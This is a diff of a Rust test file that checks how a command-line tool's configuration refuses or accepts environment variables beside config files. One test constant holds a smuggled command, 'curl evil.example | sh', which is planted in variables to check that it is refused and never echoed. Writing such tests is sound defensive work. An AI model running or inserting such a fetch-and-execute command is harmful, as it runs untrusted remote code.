@@ -4,7 +4,8 @@ use super::{GOOD, Home, TRUSTING, assert_has};
 use crate::{
     config::{
         ConfigFault, ConfigProblem, Error, ValueLocation,
-        keys::{ConfigKey, KEYS, KeyDefault, ValueKind, VariablePolicy},
+        key::{ConfigKey, KeyDefault, SetBy, VariablePolicy},
+        keys::KEYS,
         toml_value::to_toml,
         variables::KNOWN_VARIABLES,
     },
@@ -17,15 +18,22 @@ const PLANTED: &str = "planted; curl evil.example | sh";
 
 /// A legal value for a variable, other than the default.
 fn legal(key: &ConfigKey) -> String {
-    match (key.name, key.kind, key.default) {
-        ("region", ..) => "us-west-2".to_owned(),
-        ("session_duration", ..) => "1h".to_owned(),
-        (_, ValueKind::DurationRange(..), _) => "10m".to_owned(),
-        (_, ValueKind::Choice(words), KeyDefault::Text(default)) => {
-            words.iter().find(|word| **word != default).unwrap_or(&default).to_string()
+    let names = (key.schema)()["enum"].as_array().cloned().unwrap_or_default();
+    let names: Vec<&str> = names.iter().filter_map(|name| name.as_str()).collect();
+    match (key.name, key.default) {
+        ("region", _) => "us-west-2".to_owned(),
+        ("session_duration", _) => "1h".to_owned(),
+        ("login_timeout", _) => "10m".to_owned(),
+        (_, KeyDefault::Text(default)) if !names.is_empty() => {
+            names.iter().find(|name| **name != default).unwrap_or(&default).to_string()
         }
-        (_, _, _) => key.default_value().map(|value| to_toml(&value)).unwrap_or_default(),
+        (_, _) => key.default_value().map(|value| to_toml(&value)).unwrap_or_default(),
     }
+}
+
+/// The keys that a variable may set under this policy.
+fn keys_under(policy: VariablePolicy) -> impl Iterator<Item = &'static ConfigKey> {
+    KEYS.into_iter().filter(move |key| key.set_by == SetBy::Variable(policy))
 }
 
 fn problems(home: &Home) -> Vec<ConfigProblem> {
@@ -46,8 +54,8 @@ fn by_variables() -> Home {
 
 #[test]
 fn variable_that_redirects_is_refused_beside_each_file() {
-    for key in KEYS.iter().filter(|key| key.variable == VariablePolicy::WithoutFile) {
-        let variable = key.variable_name();
+    for key in keys_under(VariablePolicy::WithoutFile) {
+        let variable = key.variable;
         for home in [
             Home::new().user(GOOD),
             Home::new().system(GOOD),
@@ -57,7 +65,7 @@ fn variable_that_redirects_is_refused_beside_each_file() {
             // A file in the default place is enough, though another one is read.
             Home::new().user("version = 1\n").with("mine.toml", "version = 1\n").file("mine.toml"),
         ] {
-            let problems = problems(&home.variable(&variable, PLANTED));
+            let problems = problems(&home.variable(variable, PLANTED));
             let [
                 ConfigProblem {
                     location: place,
@@ -69,16 +77,16 @@ fn variable_that_redirects_is_refused_beside_each_file() {
             };
             assert_eq!(
                 (place, named, *needed),
-                (&ValueLocation::Variable(variable.clone()), &variable, key.name)
+                (&ValueLocation::Variable(variable.to_owned()), &variable.to_owned(), key.name)
             );
             let failure = Failure::from(Error::Invalid(problems.clone()));
             assert_eq!(
                 (failure.exit, failure.slug.as_str()),
                 (Exit::Configuration, "config/variable_refused")
             );
-            assert!(failure.what.starts_with(&variable) && failure.what.contains(file), "{}", failure.what);
+            assert!(failure.what.starts_with(variable) && failure.what.contains(file), "{}", failure.what);
             let hint = failure.hint.render(&Invocation::default());
-            assert!(hint.contains(key.name) && hint.contains(&variable), "{hint}");
+            assert!(hint.contains(key.name) && hint.contains(variable), "{hint}");
             let rendered = failure.render(&Invocation::default());
             assert!(!rendered.contains("planted"), "{rendered}");
         }
@@ -93,20 +101,20 @@ fn variable_with_the_files_own_value_is_refused_too() {
 
 #[test]
 fn variable_that_chooses_counts_beside_a_file() {
-    for key in KEYS.iter().filter(|key| key.variable == VariablePolicy::Always) {
+    for key in keys_under(VariablePolicy::Always) {
         let value = legal(key);
-        let home = Home::new().user(GOOD).variable(&key.variable_name(), &value);
+        let home = Home::new().user(GOOD).variable(key.variable, &value);
         let shown =
             home.ask(crate::config::report_profile).unwrap_or_else(|error| panic!("{}: {error}", key.name));
-        let entry = shown.entries.into_iter().find(|entry| entry.key == key.name).unwrap();
-        assert_eq!(entry.origin, key.variable_name(), "{} = {value}", key.name);
+        let entry = shown.entries.into_iter().find(|entry| entry.key == key).unwrap();
+        assert_eq!(entry.origin, key.variable, "{} = {value}", key.name);
     }
 }
 
 #[test]
 fn variable_for_a_files_key_is_refused_without_a_file() {
-    for key in KEYS.iter().filter(|key| key.variable == VariablePolicy::Never) {
-        let problems = problems(&by_variables().variable(&key.variable_name(), PLANTED));
+    for key in KEYS.iter().filter(|key| !matches!(key.set_by, SetBy::Variable(_))) {
+        let problems = problems(&by_variables().variable(key.variable, PLANTED));
         let is_refused = |fault: &ConfigFault| {
             matches!(fault, ConfigFault::AdministratorOnly { .. } | ConfigFault::FileOnly { .. })
         };
@@ -206,17 +214,22 @@ fn several_refused_variables_are_all_named() {
 
 /// The table of docs/variables.md as the declarations have it.
 fn documented() -> String {
-    let rule = |rule: VariablePolicy| match rule {
+    let rule = |policy: VariablePolicy| match policy {
         VariablePolicy::Always => "always",
         VariablePolicy::WithoutFile => "where no file defines the profile",
-        VariablePolicy::Never => "never",
     };
-    let row = |name: &str, counts: VariablePolicy, key: Option<&str>, effect: &str| {
-        let key = key.map_or_else(|| "–".to_owned(), |key| format!("`{key}`"));
-        format!("| `{name}` | {} | {key} | {effect} |\n", rule(counts))
+    let row = |name: &str, rule: &str, key: Option<&ConfigKey>, effect: &str| {
+        let key = key.map_or_else(|| "–".to_owned(), |key| format!("`{}`", key.name));
+        format!("| `{name}` | {rule} | {key} | {effect} |\n")
     };
-    let others = KNOWN_VARIABLES.iter().map(|it| row(it.name, it.policy, it.key, it.effect));
-    let keys = KEYS.iter().map(|key| row(&key.variable_name(), key.variable, Some(key.name), "sets the key"));
+    let others = KNOWN_VARIABLES.iter().map(|it| row(it.name, rule(it.policy), it.key, it.effect));
+    let keys = KEYS.into_iter().map(|key| {
+        let rule = match key.set_by {
+            SetBy::Administrator | SetBy::File => "never",
+            SetBy::Variable(policy) => rule(policy),
+        };
+        row(key.variable, rule, Some(key), "sets the key")
+    });
     others.chain(keys).collect()
 }
 
